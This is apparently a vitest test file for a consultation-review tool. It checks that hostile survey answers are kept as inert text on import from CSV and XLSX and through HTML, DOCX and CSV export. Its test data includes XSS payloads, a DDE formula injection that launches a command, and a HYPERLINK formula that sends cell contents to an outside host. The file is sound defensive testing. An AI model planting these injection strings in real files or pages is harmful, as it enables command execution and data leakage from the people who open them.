import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { isUsableText } from '../../../core/amend/text/characters.ts';
import { UNEDITED_PAPER } from '../../../core/pack/paper/document.ts';
import { csvOf } from '../../../data/formats/csv.ts';
import { readCsv } from '../../../data/formats/csv-read.ts';
import { xlsxOf } from '../../../data/formats/xlsx/write.ts';
import { noEvidence, note, packOf, sampleAmendments } from '../../support/papers/pack.ts';
import { packFiles } from '../../support/papers/pack-files.ts';
import { findAll, readPage } from '../../support/papers/page-reader.ts';
import { must, newReview } from '../../support/reviews/review.ts';
import { readDocx } from '../../support/word/docx-reader.ts';
import { asFile, csv } from './support.ts';

const texts = {
  script: '<script>window.hit = 1</script> and <img src=x onerror="window.hit = 1">',
  command: `=cmd|'/C calc'!A0 is what I say`,
  link: '=HYPERLINK("http://example.org/?"&A1,"click") "quoted"',
  turned: '\u202Eturned about\u2066\u200F and on',
  nothing: 'a\u0000b\u0007c\u0085d\u001B[31m of nothing',
  lines: 'one\r\ntwo\rthree\nfour',
  cdata: ']]><!-- --><?xml version="1.0"?>&bomb; &amp;lt;',
  wide: '🙂 e\u0301 \u{1F468}\u200D\u{1F469}\u200D\u{1F467} 中文 ﷽',
  long: 'A paragraph of words. '.repeat(10_000),
};
/** As it is kept: one kind of line end, and a picture for what nothing can hold. */
const kept: Readonly<Record<string, string>> = {
  ...texts,
  nothing: 'a␀b␇c⟨U+0085⟩d␛[31m of nothing',
  lines: 'one\ntwo\nthree\nfour',
};
const HEADERS = ['Response ID', 'Name', 'Q1: <b>Why</b> do you say so?'];
const ROWS = Object.entries(texts).map(([id, text]) => [id, `=${id}`, text]);

describe.each([
  ['CSV', () => asFile('hostile.csv', csv([HEADERS, ...ROWS]))],
  [
    'CSV in UTF-16',
    () => asFile('hostile.csv', Buffer.from(`\uFEFF${csv([HEADERS, ...ROWS], '\t')}`, 'utf16le')),
  ],
])('hostile answers from %s', (_, file) => {
  it('are inert and whole once they are taken in', async () => {
    const review = await newReview();
    const { import: made, problems } = await review.do('consultation.import', file());
    expect(made).toMatchObject({ respondents: ROWS.length });
    expect(problems).toContainEqual(expect.objectContaining({ kind: 'control-character', at: [6] }));
    const { answers } = await review.do('consultation.responses', { limit: 200 });
    for (const { id, length } of answers) {
      const answer = await review.do('consultation.answer', { id });
      expect(answer.text).toBe(kept[answer.respondent.key]);
      expect(isUsableText(answer.text)).toBe(true);
      expect(length).toBe(answer.text.length);
    }
    // A name is shown to who works on the review, and is no part of a list that may leave it.
    expect(JSON.stringify(answers)).not.toContain('=script');
    await review.do('ledger.verify', {});
    const again = await review.do('consultation.import', file());
    expect(again.import).toBe(null);
  });
});

it.each([
  ['a PDF', readFileSync(new URL('../formats/letter.pdf', import.meta.url)), /^The file is a PDF/],
  ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), /^The file is a picture/],
  ['a review', Buffer.from('SQLite format 3\0'), /^The file is a database/],
  [
    'bytes of no known kind',
    Buffer.from(Array.from({ length: 999 }, (_, at) => (at * 7) % 256)),
    /is no text/,
  ],
])('are not looked for in %s, which is refused with the reason', async (_, bytes, said) => {
  const review = await newReview();
  const refused = { ok: false, error: { kind: 'unsupported', message: expect.stringMatching(said) } };
  expect(await review.session.call('consultation.look', asFile('responses.csv', bytes))).toMatchObject(
    refused,
  );
  expect(await review.session.call('tracker.look', asFile('plan.csv', bytes))).toMatchObject(refused);
});

it('come from a workbook as they come from a CSV, and a formula as the text of its result', async () => {
  const review = await newReview();
  // A cell of a workbook holds no more than this.
  const rows = ROWS.filter(([id]) => id !== 'long' && id !== 'nothing' && id !== 'lines');
  const bytes = xlsxOf([{ name: 'Responses', header: HEADERS, rows }]);
  await review.do('consultation.import', asFile('hostile.xlsx', bytes));
  const { answers } = await review.do('consultation.responses', {});
  expect(answers.map(({ text }) => text)).toEqual(rows.map(([id = '']) => kept[id]));
});

it('go through the exports as text, and whole', async () => {
  const review = await newReview();
  await review.do('consultation.import', asFile('hostile.csv', csv([HEADERS, ...ROWS])));
  const { answers } = await review.do('consultation.responses', {});
  const held = await Promise.all(answers.map(({ id }) => review.do('consultation.answer', { id })));
  const said = held.map(({ text }) => text);
  const notes = said.map((text, at) => note({ id: `N-${at + 1}`, text }));
  const paper = { ...UNEDITED_PAPER, readers: 'lawyer' } as const;
  const pack = packOf(sampleAmendments(), { links: [], paper, evidence: { ...noEvidence, notes } });
  const { files } = must(await packFiles(pack));
  const bytesOf = (path: string) => files.find((file) => file.path === path)?.bytes ?? new Uint8Array();
  const html = Buffer.from(bytesOf('index.html')).toString('utf8');
  expect(findAll(readPage(html), ({ name }) => ['script', 'img', 'b', 'bomb'].includes(name))).toEqual([]);
  const papers = files.filter(({ path }) => path.endsWith('.docx'));
  expect(papers.map(({ path }) => path)).toContain('marked-up.docx');
  expect(papers.flatMap(({ bytes }) => readDocx(bytes).faults)).toEqual([]);

  const reading = readCsv(
    csvOf(
      ['Answer'],
      said.map((text) => [text]),
    ).slice(1),
  );
  must(reading.next());
  for (const text of said) {
    const cell = must(reading.next())?.cells[0] ?? '';
    expect(cell.startsWith('=')).toBe(false);
    expect(cell.replace(/^'(?==)/, '')).toBe(text);
  }
});
